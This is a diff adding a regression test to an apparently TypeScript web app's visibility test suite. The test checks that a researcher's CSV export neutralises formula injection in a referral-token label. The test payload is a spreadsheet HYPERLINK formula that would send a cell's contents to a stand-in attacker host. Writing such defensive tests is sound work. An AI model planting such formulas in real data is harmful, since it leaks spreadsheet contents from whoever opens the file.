@@ -10,6 +10,7 @@ import { unwrap } from '../../testing/chatScenario.js';
 import { decodeQrPath } from '../../testing/decodeQr.js';
 import type { Ack } from '../../../protocol/ack.js';
 import { arrivalPolicy } from '../visibility/partnerStatusRoutes.js';
+import { parseCsv } from '../../../domain/codebook/csvRfc4180.js';
 
 describe.each(['sqlite', 'postgres'] as const)('visibility on %s', (dialect) => {
   let server: TestServer;
@@ -131,6 +132,21 @@ describe.each(['sqlite', 'postgres'] as const)('visibility on %s', (dialect) => 
     clock.t += 3_600_000;
     for (let i = 0; i < arrivalPolicy.burst + 20; i += 1) await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'school-west' });
     expect((await counts())[0]!.count).toBe(2 * arrivalPolicy.burst);
+  });
+
+  it("attack: a token's label cannot put a formula into the researcher's monitor spreadsheet", async () => {
+    const admin = await signedIn('admin');
+    const label = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
+    expect((await callApi(server, admin, 'POST', '/api/referrals', { token: 'school-oost', label, kind: 'partner' })).status).toBe(201);
+    await callApi(server, null, 'POST', '/api/visibility/arrivals', { via: 'school-oost' });
+    const researcher = await signedIn('researcher');
+    const csv = await callApi(server, researcher, 'GET', '/api/reports/monitor.csv?year=2026');
+    expect(csv.status).toBe(200);
+    const { records, issues } = parseCsv(csv.body as string);
+    expect(issues).toEqual([]);
+    const cells = records.flat();
+    expect(cells).toContain(`'${label} (school-oost)`);
+    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
   });
 
   it('keeps no row per visitor: the counts table has no conversation id, and no chat holds its source', async () => {
